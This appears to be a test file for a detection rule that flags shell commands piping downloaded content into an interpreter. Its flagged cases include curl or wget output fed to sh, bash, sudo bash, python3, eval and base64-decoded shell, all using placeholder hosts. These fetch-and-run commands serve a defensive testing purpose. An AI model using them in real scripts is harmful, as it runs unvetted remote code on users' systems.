# ruleid: pipes-download-to-shell
curl -fsSL https://example.invalid/i.sh | sh
# ruleid: pipes-download-to-shell
curl -s https://example.invalid/i.sh | sudo -E bash -s -- --yes
# ruleid: pipes-download-to-shell
wget -qO- https://example.invalid/x | base64 -d | /bin/bash
# ruleid: pipes-download-to-shell
wget -O - https://example.invalid/x.py | python3
# ruleid: pipes-download-to-shell
bash <(curl -s https://example.invalid/i.sh)
# ruleid: pipes-download-to-shell
sh -c "$(curl -fsSL https://example.invalid/i.sh)"
# ruleid: pipes-download-to-shell
eval `wget -qO- https://example.invalid/x`
# ruleid: pipes-download-to-shell
echo Y3VybCBleGFtcGxl | base64 -d | sh

# ok: pipes-download-to-shell
curl -fsSL https://example.test/tool.tar.gz | tar xz
# ok: pipes-download-to-shell
curl -s https://example.test/list | grep sh | sort
# ok: pipes-download-to-shell
cat build.sh | sh
# ok: pipes-download-to-shell
curl -o tool.sh https://example.test/tool.sh
# ruleid: pipes-download-to-shell
curl -fsSL https://example.test/first | "$runner" -s
# ok: pipes-download-to-shell
curl -fsSL https://example.test/tool.tar.gz | "$TAR" -xzf -
# ok: pipes-download-to-shell
curl-config --static-libs | node -e "console.log(1)"
